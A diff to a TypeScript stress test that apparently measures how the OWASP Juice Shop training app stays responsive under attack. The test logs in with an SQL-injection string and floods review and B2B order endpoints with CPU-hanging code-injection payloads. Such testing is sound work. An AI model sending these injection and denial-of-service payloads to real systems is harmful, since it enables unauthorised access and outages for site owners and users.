@@ -225,12 +225,15 @@ export const queueStalls: readonly Stall[] = [
       const token = await client.login("jim@juice-sh.op'--", 'x');
       const endless = encodeURIComponent('((a=[])=>{a.length=4e9;a.indexOf(1)})()');
       const orderLinesData = 'var a = []; a.length = 4294967295; a.indexOf(1)';
-      const flood = Array.from({ length: 20 * scale }, async () => {
-        await Promise.all([
-          client.get(`/rest/products/${endless}/reviews`),
-          client.post('/b2b/v2/orders', { orderLinesData }, { token }),
-        ]);
-      });
+      // The careless shop may go meanwhile: that is nobody's fault.
+      const flood = Promise.allSettled(
+        Array.from({ length: 20 * scale }, async () => {
+          await Promise.all([
+            client.get(`/rest/products/${endless}/reviews`),
+            client.post('/b2b/v2/orders', { orderLinesData }, { token }),
+          ]);
+        }),
+      );
       // A learner who looks at their profile meanwhile gets it, or is told to come again, in time.
       await wait(300);
       const since = performance.now();
@@ -239,7 +242,7 @@ export const queueStalls: readonly Stall[] = [
       if (scale === 1 && waited > 6000) {
         await wait(60_000);
       }
-      await Promise.race([Promise.all(flood), wait(15_000)]);
+      await Promise.race([flood, wait(15_000)]);
     },
   },
 ];
